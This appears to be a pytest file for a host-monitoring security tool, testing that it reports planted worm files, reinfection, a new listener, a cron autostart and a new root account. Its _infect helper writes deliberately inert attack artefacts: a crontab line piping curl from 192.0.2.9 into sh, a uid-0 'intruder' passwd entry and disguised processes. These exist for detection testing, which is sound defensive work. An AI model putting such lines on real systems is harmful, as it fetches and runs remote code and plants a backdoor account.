"""`codered monitor` as a user meets it: what comes back is told at once, nothing that happened meanwhile is missed."""

import json
import os
import signal
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from codered.packs.examples import write_tree
from tests.fixtures.command import Desk
from tests.fixtures.machines import INTERPRETER, Machine, running_machine

PACKS = Path(__file__).parents[2] / "packs"
TREE = PACKS / "react2shell" / "examples" / "hit" / "host.tree.yaml"
PATIENCE = 90.0
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="namespaces of one's own need root")


def wait_for(done: Callable[[], bool], what: str) -> None:
    until = time.monotonic() + PATIENCE
    while not done():
        assert time.monotonic() < until, what
        time.sleep(0.05)


def plant(scratch: Path, folder: Path) -> None:
    """A pack's inert example of a tunnel, told by its content."""
    scratch.mkdir()
    write_tree(TREE, scratch)
    (scratch / "opt/nss-tool").rename(folder / "helper")


def read_events(path: Path) -> list[dict[str, object]]:
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text().splitlines() if line]


def is_settled(state: Path, name: str = "host") -> bool:
    file = state / "monitors" / name / "state.json"
    return file.exists() and bool(json.loads(file.read_text()).get("settled"))


@pytest.fixture
def desk(desk: Desk) -> Desk:
    (desk.folder / "web").mkdir()
    assert desk.run("scan", "web").code in (0, 3)  # the rules are compiled once for all journeys
    return desk


@contextmanager
def watching(desk: Desk, *more: str) -> Iterator[int]:
    """A watch of the desk's web folder, under way; killed in the end, if it still runs."""
    words = ("monitor", "--only", "web", "--every", "0s", "--jsonl", "alerts.jsonl", *more)
    process = desk.start(*words)
    try:
        yield process.pid
    finally:
        process.kill()
        process.communicate(timeout=PATIENCE)


def kinds_about(desk: Desk, needle: str) -> set[object]:
    return {one["kind"] for one in read_events(desk.folder / "alerts.jsonl") if needle in str(one["story"])}


def test_a_worm_in_a_web_root_is_told_and_the_watch_can_be_stopped(desk: Desk) -> None:
    with watching(desk, "--for", "5m"):
        wait_for(lambda: is_settled(desk.state), "the first look does not end")
        (desk.folder / "web/late").mkdir()
        plant(desk.folder / "scratch", desk.folder / "web/late")
        wait_for(lambda: kinds_about(desk, "late/helper") == {"found"}, "the worm was not told")
        second = desk.run("monitor", "--only", "web")
        assert (second.code, second.out) == (4, "")
        assert "runs already" in second.err
        assert "running" in desk.run("monitor", "status").out
        stopped = desk.run("monitor", "stop", "host")
    assert stopped.code == 1
    assert "late/helper" in stopped.out
    assert "not over" not in stopped.out


def test_what_happened_while_it_was_killed_is_not_missed(desk: Desk) -> None:
    with watching(desk, "--for", "5m") as pid:
        wait_for(lambda: is_settled(desk.state), "the first look does not end")
        os.kill(pid, signal.SIGKILL)
    plant(desk.folder / "scratch", desk.folder / "web")
    assert "unfinished" in desk.run("monitor", "status").out
    with watching(desk, "--for", "5m"):
        wait_for(lambda: kinds_about(desk, "web/helper") == {"found"}, "the worm was not told after the restart")
        assert "gap" in {one["kind"] for one in read_events(desk.folder / "alerts.jsonl")}
        report = json.loads(desk.run("monitor", "status", "host", "--json").out)
        assert report["format"] == "codered/monitor-report/1"
        assert desk.run("monitor", "stop", "host").code == 1


def test_the_place_of_a_removed_file_is_known_again(desk: Desk) -> None:
    plant(desk.folder / "scratch", desk.folder / "web")
    assert desk.run("scan", "web", "-o", "report.json").code == 1
    assert desk.run("plan", "report.json", "-o", "plan.json").code == 0
    assert desk.run("apply", "plan.json", "--yes").code == 0
    plan = json.loads((desk.folder / "plan.json").read_text())
    removed = Path(plan["actions"][0]["path"]["text"])
    words = ("monitor", "--plan", "plan.json", "--only", "--every", "0s", "--jsonl", "alerts.jsonl", "--for", "5m")
    process = desk.start(*words)
    try:
        wait_for(lambda: is_settled(desk.state, plan["id"]), "the first look does not end")
        removed.write_text("another content in the same place")
        wait_for(lambda: "reinfected" in kinds_about(desk, removed.name), "the reinfection was not told")
        answer = desk.run("monitor", "stop", plan["id"])
    finally:
        process.kill()
        process.communicate(timeout=PATIENCE)
    assert answer.code == 1
    assert "REINFECTED" in answer.out


def test_a_dry_run_shows_what_would_be_watched(desk: Desk) -> None:
    answer = desk.run("monitor", "--dry-run", "web")
    assert answer.code == 0
    assert f"named by you: {desk.folder}/web and below" in answer.out
    assert "cron: /etc/cron.d and below" in answer.out
    assert not (desk.state / "monitors").exists()


@pytest.mark.parametrize(
    "words",
    [
        ("--for", "soon"), ("--for", "0s"), ("--name", "../x"), ("--syslog", "gopher://x"), ("--webhook", "file:///x"),
        ("stop", "nobody"), ("--resume", "nobody"), ("--only",), ("status", "a", "b"), ("--jsonl", "/no/such/file"),
    ],
)  # fmt: skip
def test_wrong_use_is_told_in_one_line(desk: Desk, words: tuple[str, ...]) -> None:
    answer = desk.run("monitor", *words)
    assert (answer.code, answer.out, answer.err.count("\n")) == (2, "", 1)


@needs_root
def test_a_machine_is_watched(compiled_rules: Path) -> None:
    with running_machine(compiled_rules) as machine:
        quiet = machine.codered("monitor", "--for", "3s", "--only", "/srv", "--name", "short")
        assert quiet.returncode == 0, quiet.stdout
        assert "Nothing came back." in quiet.stdout
        start = [INTERPRETER, "-m", "codered", "monitor", "--for", "10m", "--jsonl", "/run/alerts"]
        machine.start(*start, "--on-finding", "contain", "--every", "0s")
        wait_for(lambda: is_settled(machine.root / "var/lib/codered"), "the first look does not end")
        _infect(machine)
        told = machine.root / "run/alerts"
        wait_for(lambda: "new-listener" in _kinds(told), "the listener was not told")
        wait_for(lambda: {"new-autostart", "found"} & _kinds(told) != set(), "the cron line was not told")
        wait_for(lambda: "new-account" in _kinds(told), "the account was not told")
        wait_for(lambda: "contained" in _kinds(told), f"nothing was frozen: {told.read_text()}")
        held = next(one for one in read_events(told) if one["kind"] == "contained")
        released = machine.codered("rollback", str(held["plan"]), "--yes")
        assert released.returncode == 0, released.stderr
        assert machine.codered("monitor", "stop", "host").returncode == 1


def _infect(machine: Machine) -> None:
    """Inert things in the places where worms come back."""
    machine.append("/etc/crontab", "* * * * * root curl -s http://192.0.2.9/x | sh # inert: no network here\n")
    machine.append("/etc/passwd", "intruder:x:0:0::/tmp:/bin/sh\n")
    listen = "import socket, time; kept = socket.create_server(('127.0.0.1', 4242)); time.sleep(600)"
    machine.start(INTERPRETER, "-c", listen)
    machine.run("cp", "/bin/sleep", "/tmp/.kworker")
    machine.run("chmod", "755", "/tmp/.kworker")
    machine.start("/tmp/.kworker", "600")
    machine.run("sh", "-c", "cp /bin/sleep /dev/shm/.x; /dev/shm/.x 600 >/dev/null 2>&1 & sleep 0.3; rm /dev/shm/.x")


def _kinds(path: Path) -> set[object]:
    return {one["kind"] for one in read_events(path)}
